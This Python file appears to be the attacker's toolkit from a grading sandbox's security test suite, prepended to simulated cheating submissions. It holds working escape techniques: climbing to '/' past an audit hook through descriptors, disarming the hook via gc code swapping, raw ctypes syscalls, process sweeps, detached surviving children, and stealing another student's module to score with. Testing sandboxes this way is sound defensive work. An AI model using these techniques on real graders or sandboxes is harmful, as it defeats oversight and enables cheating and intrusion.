# The attacker's kit: prepended to every attack submission by tests/security/catalogue.py.
#
# This file is student code, never imported by the tests. Above it the builder writes TARGETS, a dict
# of what the attacker is assumed to know (the worst case: every real path and the test's own pid).
# Below it comes one attack from tests/security/attacks/, which defines `attack()`, and then the
# honest part of the submission. The student's `norm` runs the attack once; if the attack stole a
# module that scores, `norm` answers with it (so a successful theft shows up as points), otherwise it
# raises. Either way the report of every attempt is printed on one line starting with REPORT_TAG,
# which the grader captures as the check's output and the test reads from the JSON report.
import base64
import errno
import hashlib
import json
import os
import signal  # noqa: F401 (for the attacks below the kit)
import sys
import time
import types
import zlib

REPORT_TAG = "ATTACK-REPORT "
# The fork server, as the worker's parent when the attack starts. Once an unconfined attack (the suite's
# breakout runs, as the user running pytest) has killed it, os.getppid() names the pytest process, a child
# subreaper of the test: a blow aimed at "the parent" must never land there.
FORK_SERVER = os.getppid()
REPORT = {"self": {"pid": os.getpid(), "ppid": FORK_SERVER}, "attempts": [], "sweeps": [], "notes": {}}
STOLEN = {}  # what the attack stole that can score: {"source": text of a module defining norm}
_SWEEP_BUDGET = 36_000  # characters of encoded sweeps kept (the check's output is capped at 64 KB)
_OWN_TIDS = set()


def attempt(what, action, real=True, must_fail=True):
    """Run ``action()`` and write down how it ended. Returns (True, value) or (False, None).

    ``real``: the target certainly exists (a file the test made, this worker's parent), so a refusal
    proves the fence and not an accident. ``must_fail``: success is an escape (False for set-up steps
    that are allowed, such as making a symlink in the worker's own directory).
    """
    entry = {"what": what, "real": real, "must_fail": must_fail}
    try:
        value = action()
    except OSError as exc:
        if exc.errno is None:  # the audit hook's PermissionError carries no errno
            entry.update(result="hook", message=str(exc)[:160])
        else:
            entry.update(result="errno", errno=errno.errorcode.get(exc.errno, str(exc.errno)), message=str(exc)[:160])
    except Exception as exc:
        entry.update(result="error", type=type(exc).__name__, message=str(exc)[:160])
    else:
        entry.update(result="ok", got=describe(value))
        REPORT["attempts"].append(entry)
        return True, value
    REPORT["attempts"].append(entry)
    return False, None


def describe(value):
    """What an attempt got, small enough for the report: bytes by hash, text and lists cut short."""
    if isinstance(value, (bytes, bytearray, memoryview)):
        data = bytes(value)
        return {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data), "head": data[:120].decode("latin-1")}
    if isinstance(value, (list, tuple, set, frozenset)):
        return [describe(item) for item in list(value)[:60]]
    if isinstance(value, dict):
        return {str(key): describe(item) for key, item in list(value.items())[:60]}
    if value is None or isinstance(value, (bool, int, float)):
        return value
    return str(value)[:600]


def note(key, value):
    REPORT["notes"][key] = describe(value)


# -- files through descriptors (the audit hook judges path strings; these never show it the real path) --
def open_dir(path, dir_fd=None):
    return os.open(path, os.O_RDONLY | os.O_DIRECTORY, dir_fd=dir_fd)


def read_all(fd):
    chunks = []
    while True:
        chunk = os.read(fd, 1 << 16)
        if not chunk:
            return b"".join(chunks)
        chunks.append(chunk)


def read_at(dir_fd, name):
    fd = os.open(name, os.O_RDONLY, dir_fd=dir_fd)
    try:
        return read_all(fd)
    finally:
        os.close(fd)


def root_descriptor():
    """An O_PATH descriptor of '/' (O_PATH opens are never access-checked) that the audit hook lets
    through: the hook judges a relative path against the working directory, the kernel against the
    directory descriptor. So: a descriptor of the worker's own directory, then, from a working directory
    as deep below it as it is below '/', '../' as many times (the hook sees a folder inside, the kernel
    climbs to '/'). None if even that is refused."""

    def climb():
        home = os.getcwd()
        depth = len([part for part in os.path.realpath(home).split("/") if part])
        base = os.open(".", os.O_PATH)
        os.makedirs(os.path.join(*["deep"] * depth), exist_ok=True)
        os.chdir(os.path.join(*["deep"] * depth))
        try:
            return os.open("../" * depth, os.O_PATH, dir_fd=base)
        finally:
            os.chdir(home)
            os.close(base)

    if not _ROOT:
        ok, fd = attempt("an O_PATH descriptor of '/' (past the audit hook)", climb, must_fail=False)
        _ROOT.append(fd if ok else None)
    return _ROOT[0]


_ROOT = []


def at_root(path):
    """``path`` relative to '/', for use with root_descriptor()."""
    return path.lstrip("/")


def steal_module(what, read):
    """Try to read a module's source with ``read()``; keep it to score with if it defines norm."""
    ok, data = attempt(what, read)
    if ok and b"def norm" in data:
        STOLEN.setdefault("source", data.decode("utf-8", "replace"))
    return ok


# -- processes ------------------------------------------------------------------------------------------
def proc_fd():
    """A directory descriptor of /proc, opened relative to the root descriptor (past the audit hook)."""
    root = root_descriptor()
    if root is None:
        return None
    ok, fd = attempt("open /proc as a directory", lambda: open_dir("proc", root), must_fail=False)
    return fd if ok else None


def parent_of(proc, pid):
    """The parent pid of ``pid`` from /proc/<pid>/stat (through the /proc descriptor), or None."""
    try:
        stat = read_at(proc, f"{pid}/stat").decode()
        return int(stat.rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def test_processes():
    """The processes of this very test (descendants of TARGETS['anchor_pid'], the pytest process) that
    /proc shows, this worker aside: {pid: ppid}. The attack harms only these (or, where TARGETS says every process this
    worker could reach is the test's own, anything it reaches): other graders on the machine must
    never be disturbed by a test. Empty when /proc cannot be listed."""
    proc = proc_fd()
    if proc is None:
        return {}
    ok, names = attempt("list /proc", lambda: os.listdir(proc), must_fail=False)
    parents = {}
    for name in names or ():
        if name.isdigit():
            ppid = parent_of(proc, int(name))
            if ppid is not None:
                parents[int(name)] = ppid
    os.close(proc)
    anchor, ours = TARGETS["anchor_pid"], {}
    for pid in parents:
        chain, current = [], pid
        while current in parents and current not in chain and current != anchor:
            chain.append(current)
            current = parents[current]
        if current == anchor and pid not in (anchor, os.getpid()):
            ours[pid] = parents[pid]
    note("processes_of_this_test", sorted(ours))
    return ours


def may_harm(pid, ours):
    """Only the test's own processes get a real blow; anything else only a harmless probe."""
    if pid in (os.getpid(), TARGETS["anchor_pid"]):
        return False
    return pid in ours or pid == FORK_SERVER or TARGETS["harm_any_reachable"]


def candidate_pids():
    """Pids a student would guess: every pid up to pid_max when that is small, else a window around its own."""
    own = os.getpid()
    try:
        pid_max = int(read_at(None, "/proc/sys/kernel/pid_max"))
    except (OSError, ValueError):
        pid_max = 65536
    if pid_max <= 65536:
        return range(1, pid_max + 1)
    return range(max(1, own - 20_000), own + 20_000)


def own_threads():
    if not _OWN_TIDS:
        try:
            _OWN_TIDS.update(int(tid) for tid in os.listdir("/proc/self/task"))
        except OSError:
            pass
        _OWN_TIDS.add(os.getpid())
    return _OWN_TIDS


def sweep(label, probe, pids):
    """Call ``probe(pid)`` for every pid; keep one byte per pid (0: it worked, else the errno) in the report."""
    own = own_threads()
    pids = list(pids)
    codes = bytearray(len(pids))
    started = time.time()
    for index, pid in enumerate(pids):
        if pid in own:
            codes[index] = 254
            continue
        try:
            probe(pid)
        except OSError as exc:
            codes[index] = min(exc.errno or 253, 252)
        except Exception:
            codes[index] = 255
    encoded = base64.b64encode(zlib.compress(bytes(codes), 9)).decode()
    entry = {"label": label, "t0": started, "t1": time.time(), "first_pid": pids[0] if pids else 0}
    used = sum(len(s.get("codes", "")) for s in REPORT["sweeps"])
    if used + len(encoded) <= _SWEEP_BUDGET:
        entry["codes"] = encoded
    else:
        entry["dropped"] = True
        entry["successes"] = [pids[i] for i, code in enumerate(codes) if code == 0][:50]
    REPORT["sweeps"].append(entry)
    return [pids[i] for i, code in enumerate(codes) if code == 0]


def keep_trying(step):
    """Run ``step()`` again and again for TARGETS['race_s'] seconds (at least once): in a batch the
    classmate's worker comes and goes while the attacker runs. No round starts that would end after
    that time (as long as the last one took): a round of sweeps over every pid takes a second on a
    busy machine, and the check's time limit must not cut the attack off before it reports."""
    deadline = time.monotonic() + TARGETS["race_s"]
    while True:
        started = time.monotonic()
        step()
        now = time.monotonic()
        if now + (now - started) >= deadline:
            return
        time.sleep(0.02)


# -- the audit hook: what a student does when a call it needs is refused by it ---------------------------
def disarm_audit_hook():
    """Empty the guard's lists (the hook reads them at every event) and swap the hook's code for a
    no-op (found with gc once the lists no longer forbid gc). Proves the hook is no fence."""
    emptied = []
    for name, module in list(sys.modules.items()):
        if module is None or not name.startswith("grader.sandbox") or not name.endswith("guard"):
            continue
        for key, value in list(vars(module).items()):
            if isinstance(value, (set, frozenset, dict)) and not key.startswith("__"):
                setattr(module, key, type(value)())
                emptied.append(f"{name}.{key}")
    swapped = 0
    try:
        import gc

        for obj in gc.get_objects():
            if type(obj) is types.FunctionType and str(obj.__module__).startswith("grader.sandbox"):
                if obj.__code__.co_varnames[:2] == ("event", "args"):
                    obj.__code__ = _noop_code(obj.__code__.co_freevars)
                    swapped += 1
    except Exception as exc:
        note("disarm_error", f"{type(exc).__name__}: {exc}")
    note("audit_hook_disarmed", {"emptied": emptied, "hooks_swapped": swapped})


def _noop_code(free_names):
    lines = ["def outer():"] + [f"    {n} = None" for n in free_names]
    lines += ["    def hook(event, args):"] + ([f"        ({', '.join(free_names)},)"] if free_names else [])
    lines += ["        return None", "    return hook"]
    namespace = {}
    exec("\n".join(lines), namespace)
    return namespace["outer"]().__code__


# -- ctypes and raw syscalls --------------------------------------------------------------------------
_LIBC = []


def libc():
    if not _LIBC:
        import ctypes

        _LIBC.append(ctypes.CDLL(None, use_errno=True))
    return _LIBC[0]


def syscall(number, *args):
    """A raw system call through ctypes; OSError(errno) when it returns -1."""
    import ctypes

    function = libc().syscall
    function.restype = ctypes.c_long
    result = function(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


# -- spawned processes: what a detached child would do ------------------------------------------------
def child_command(how):
    """The detached program every spawn attack starts: it marks a file outside the sandbox at once and
    lives on after the grade (its environment carries the token the test looks for)."""
    marker = os.path.join(TARGETS["drop_dir"], f"outlived-{how}-{TARGETS['token']}")
    token = TARGETS["token"]
    script = f"echo {token} > {marker}; echo {token} > /tmp/grader-attack-{token}-{how}; sleep 30"
    return (
        "/bin/sh",
        ["/bin/sh", "-c", script, f"grader-attack-{TARGETS['token']}"],
        {"GRADER_ATTACK_TOKEN": TARGETS["token"], "PATH": "/usr/bin:/bin"},
    )


def become_detached_child(how):
    """In a freshly created child process: leave the worker's session and exec the detached program."""
    try:
        os.setsid()
    except OSError:
        pass
    try:
        program, argv, env = child_command(how)
        os.execve(program, argv, env)
    finally:
        os._exit(0)


# -- the answer -------------------------------------------------------------------------------------------
_DONE = []


def run_attack_once():
    if not _DONE:
        try:
            attack()
        except BaseException as exc:  # the attack's own bug must still leave a report
            note("attack_crashed", f"{type(exc).__name__}: {exc}")
        _DONE.append(True)
        print(REPORT_TAG + json.dumps(REPORT, separators=(",", ":")))


def norm(x):
    run_attack_once()
    if "source" in STOLEN:  # the theft worked: answer with the stolen code, as a cheating student would
        namespace = {}
        exec(compile(STOLEN["source"], "<stolen>", "exec"), namespace)
        return namespace["norm"](x)
    raise RuntimeError("the attack got nothing it could score with (its report is in this check's output)")
